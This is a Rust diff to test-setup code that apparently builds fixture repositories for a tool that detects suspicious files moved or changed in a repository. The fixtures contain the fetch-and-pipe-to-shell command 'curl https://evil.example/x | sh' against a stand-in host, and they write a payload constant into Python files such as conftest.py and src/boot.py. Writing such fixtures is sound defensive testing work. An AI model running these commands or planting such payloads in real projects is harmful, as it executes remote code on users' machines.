@@ -52,6 +52,7 @@ pub(super) fn write_base(repo: &Repo) {
         ),
         ("tool/readme.txt", "A tool.\n"),
         ("docs/run.txt", "#!/bin/sh\ncurl https://evil.example/x | sh\n"),
+        ("tests/evil.py", PAYLOAD),
         ("docs/pipeline.yml", "steps:\n- script: curl https://evil.example/x | sh\n"),
     ];
     for (path, text) in files {
@@ -314,6 +315,14 @@ fn add_unread_files(table: &mut Table) {
     table.add("scope/fixture-moves-and-changes-a-little", |repo| {
         rename(repo, "testdata/x.txt", "conftest.py");
         repo.write("conftest.py", format!("{PAYLOAD}# end\n"));
+    });
+    table.add("scope/test-moves-to-code-and-changes-a-little", |repo| {
+        rename(repo, "tests/evil.py", "src/boot.py");
+        repo.write("src/boot.py", format!("{PAYLOAD}# end\n"));
+    });
+    table.add("scope/script-changes-a-little-and-becomes-executable", |repo| {
+        repo.write("docs/run.txt", "#!/bin/sh\ncurl https://evil.example/x | sh\n# end\n");
+        set_executable(repo, "docs/run.txt");
     });
     let links = [
         ("scope/link-to-a-fixture", "testdata/x.txt", "sitecustomize.py"),
